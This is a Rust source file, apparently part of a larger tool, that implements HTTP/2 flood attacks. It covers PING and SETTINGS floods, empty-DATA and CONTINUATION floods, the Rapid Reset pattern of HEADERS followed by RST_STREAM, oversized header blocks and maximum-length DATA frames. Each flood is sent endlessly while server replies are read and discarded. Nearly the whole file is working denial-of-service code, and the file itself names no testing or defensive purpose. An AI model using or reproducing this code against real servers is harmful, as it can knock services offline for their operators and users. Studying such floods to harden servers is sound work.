//! Floods: the same frames again and again, as fast as the connection takes them. What the server says is read and thrown away, so that
//! it never has to wait for its own answers.

use std::io;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    task::yield_now,
};

use super::{
    Crowd,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, call_headers, frame,
        greeting, header, literal, streaming,
    },
};
use crate::kinds::{Attack, Port};

/// How much is written at a time.
const PIECE_BYTES: usize = 16 * 1024;
/// Frames that need stream numbers are made in turns of so many.
const STREAMS_A_TURN: u32 = 256;
/// The window of floods: the server may send what it likes.
const WINDOW_BYTES: u32 = 1 << 30;

/// Makes the next piece of a flood.
pub(super) type Again = Box<dyn FnMut() -> Vec<u8>>;

/// What a flood begins with, and what it goes on with.
pub(super) fn of(attack: Attack, port: Port) -> (Vec<u8>, Again) {
    let mut begin = greeting(WINDOW_BYTES);
    let again: Again = match attack {
        Attack::Pings => the_same(&frame(PING, 0, 0, &[7; 8])),
        Attack::Settings => the_same(&frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Attack::EmptyData => {
            begin.extend(frame(HEADERS, END_HEADERS, 1, &call_headers(streaming(port))));
            the_same(&frame(DATA, 0, 1, &[]))
        }
        Attack::Continuation => {
            begin.extend(frame(HEADERS, 0, 1, &call_headers(streaming(port))));
            // Every other is empty; the others begin a header that is never indexed.
            let mut field = Vec::new();
            literal(&mut field, b"a", b"");
            the_same(&[frame(CONTINUATION, 0, 1, &[]), frame(CONTINUATION, 0, 1, &field)].concat())
        }
        Attack::RapidReset => {
            let block = call_headers(streaming(port));
            on_new_streams(move |stream, into| {
                into.extend(frame(HEADERS, END_HEADERS, stream, &block));
                into.extend(frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]));
            })
        }
        Attack::BigHeaders => {
            let mut block = call_headers(streaming(port));
            for number in 0..10_000 {
                literal(&mut block, format!("x-{number}").as_bytes(), &[b'v'; 100]);
            }
            on_new_streams(move |stream, into| {
                let mut pieces = block.chunks(PIECE_BYTES).peekable();
                let mut kind = (HEADERS, END_STREAM);
                while let Some(piece) = pieces.next() {
                    let end = if pieces.peek().is_none() { END_HEADERS } else { 0 };
                    into.extend(frame(kind.0, kind.1 | end, stream, piece));
                    kind = (CONTINUATION, 0);
                }
            })
        }
        // Frames of 16 MiB less a byte, the most that their length can say.
        _ => {
            begin.extend(frame(HEADERS, END_HEADERS, 1, &call_headers(streaming(port))));
            begin.extend(header(0x00ff_ffff, DATA, 0, 1));
            the_same(&[0; 1024])
        }
    };
    (begin, again)
}

/// The same bytes, many at a time.
fn the_same(one: &[u8]) -> Again {
    let piece = one.repeat(PIECE_BYTES.div_ceil(one.len()));
    Box::new(move || piece.clone())
}

/// Something on each new stream; the connection ends when there are no numbers left.
fn on_new_streams(mut each: impl FnMut(u32, &mut Vec<u8>) + 'static) -> Again {
    let mut stream = 1;
    Box::new(move || {
        let mut piece = Vec::new();
        for _ in 0..STREAMS_A_TURN {
            if piece.len() > PIECE_BYTES || stream > 0x7fff_fff0 {
                break;
            }
            each(stream, &mut piece);
            stream += 2;
        }
        piece
    })
}

/// Sends it until the server ends the connection.
pub(super) async fn endless(crowd: &Crowd, stream: TcpStream, begin: Vec<u8>, again: Again) -> io::Result<()> {
    let (read, write) = stream.into_split();
    tokio::select! {
        read = discard(read) => read,
        written = pour(crowd, write, begin, again) => written,
    }
}

/// The same, of bytes that don't change.
pub(super) async fn flood(crowd: &Crowd, stream: TcpStream, begin: &[u8], again: &[u8]) -> io::Result<()> {
    endless(crowd, stream, begin.to_vec(), the_same(again)).await
}

async fn pour(crowd: &Crowd, mut write: OwnedWriteHalf, begin: Vec<u8>, mut again: Again) -> io::Result<()> {
    let mut piece = begin;
    while !piece.is_empty() {
        write.write_all(&piece).await?;
        crowd.sent(piece.len());
        piece = again();
        // So that one connection does not keep the others from their turn.
        yield_now().await;
    }
    Ok(())
}

/// Reads to the end.
pub(super) async fn discard(mut read: OwnedReadHalf) -> io::Result<()> {
    let mut buffer = vec![0; PIECE_BYTES];
    while read.read(&mut buffer).await? > 0 {}
    Ok(())
}
